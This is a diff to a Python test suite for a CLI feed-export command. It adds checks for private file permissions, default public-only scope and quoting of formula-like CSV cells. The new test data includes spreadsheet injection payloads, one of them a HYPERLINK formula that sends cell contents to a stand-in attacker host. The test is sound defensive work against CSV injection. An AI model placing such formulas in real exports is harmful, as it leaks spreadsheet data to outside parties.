@@ -4,6 +4,7 @@ comes back or never does, and the `feed` commands (export, status, subscribe, to
 
 from __future__ import annotations
 
+import base64
 import csv
 import io
 import json
@@ -25,6 +26,7 @@ from starlette.responses import PlainTextResponse, Response
 from starlette.routing import Route
 from typer.testing import CliRunner
 
+from api.cli import feed as feed_cli
 from api.cli.feed import report_keys, status_json
 from api.cli.main import app as cli_app
 from api.demo.sample_service import running
@@ -344,7 +346,8 @@ def test_feed_run_takes_a_report_key_put_there_while_it_waits(tmp_path: Path) ->
 def test_export_as_json_lines_and_csv(fw: FeedWorld, tmp_path: Path) -> None:
     url = store_url(fw)
     since = (date.today() - timedelta(days=2)).isoformat()
-    lines = cli("feed", "export", "--since", since, "--format", "jsonl", "--store", url)
+    lines = cli("feed", "export", "--since", since, "--format", "jsonl", "--scope", "all",
+                "--store", url)  # fmt: skip
     records = [json.loads(line) for line in lines.splitlines()]
     assert [r["sequence"] for r in records] == list(range(1, 7))
     out = tmp_path / "feed.csv"
@@ -354,7 +357,7 @@ def test_export_as_json_lines_and_csv(fw: FeedWorld, tmp_path: Path) -> None:
     assert {row["kind"] for row in rows} == PUBLIC_KINDS
     assert all(row["signature"] and row["transaction"].startswith("0x") for row in rows)
     zh = cli("feed", "export", "--since", since, "--format", "csv", "--labels", "zh",
-             "--store", url)  # fmt: skip
+             "--scope", "all", "--store", url)  # fmt: skip
     header = next(csv.reader(io.StringIO(zh)))
     assert header[:5] == ["序号", "记录标识", "变更类型", "承诺编码", "承诺主体名称"]
     assert len(list(csv.reader(io.StringIO(zh)))) == 7
@@ -362,12 +365,60 @@ def test_export_as_json_lines_and_csv(fw: FeedWorld, tmp_path: Path) -> None:
     assert cli("feed", "export", "--since", tomorrow, "--store", url) == ""
 
 
+def test_an_export_file_is_private_and_public_records_only_unless_asked(
+    fw: FeedWorld, tmp_path: Path
+) -> None:
+    since = (date.today() - timedelta(days=2)).isoformat()
+    out = tmp_path / "feed.jsonl"
+    out.write_text("an older export, world-readable\n")
+    out.chmod(0o644)
+    cli("feed", "export", "--since", since, "--store", store_url(fw), "--out", out)
+    assert out.stat().st_mode & 0o777 == 0o600
+    kinds = {json.loads(line)["kind"] for line in out.read_text().splitlines()}
+    assert kinds == PUBLIC_KINDS
+    fresh = tmp_path / "fresh.csv"
+    cli("feed", "export", "--since", since, "--format", "csv", "--store", store_url(fw),
+        "--out", fresh)  # fmt: skip
+    assert fresh.stat().st_mode & 0o777 == 0o600
+
+
+class _OneRecordFeed:
+    def __init__(self, record: dict[str, Any]) -> None:
+        self.record = record
+
+    def bodies(self, scopes: object, since: str) -> Iterator[tuple[int, str]]:
+        yield 1, json.dumps(self.record)
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
+            "\tx", "\r=1+1")  # fmt: skip
+
+
+def test_a_csv_cell_that_starts_like_a_formula_is_quoted(fw: FeedWorld) -> None:
+    lines = cli("feed", "export", "--since", "2000-01-01", "--store", store_url(fw))
+    record = json.loads(lines.splitlines()[0])
+    header = [*feed_cli.CSV_COLUMNS, *feed_cli.EVIDENCE_COLUMNS, "public_key", "signature"]
+    for name in FORMULAS:
+        record.update(committer_name=name, credit_code="=1+1")
+        target = io.StringIO()
+        feed = _OneRecordFeed(record)
+        count = feed_cli._write_export(feed, date(2000, 1, 1), "all", "csv", target, header)  # type: ignore[arg-type]
+        assert count == 1
+        [row] = list(csv.DictReader(io.StringIO(target.getvalue())))
+        assert row["committer_name"] == "'" + name
+        assert row["credit_code"] == "'=1+1"
+        assert row["commitment_hash"].startswith("0x")  # other cells are left as they are
+
+
 def test_subscribe_then_status_shows_the_lag_and_tokens_issue_a_feed_token(
     fw: FeedWorld,
 ) -> None:
     url = store_url(fw)
+    master = fw.world.tmp_path / "master.key"
+    master.write_text(base64.b64encode(fw.world.vault.master_key).decode())
     subscribed = one_json(cli("feed", "subscribe", "http://127.0.0.1:9/hook", "--scope",
-                              "restricted", "--store", url, "--json"))  # fmt: skip
+                              "restricted", "--store", url, "--master-key-file", master,
+                              "--json"))  # fmt: skip
     assert subscribed["secret"].startswith("whsec_")
     status = one_json(cli("feed", "status", "--store", url, "--json"))
     [subscriber] = status["subscribers"]
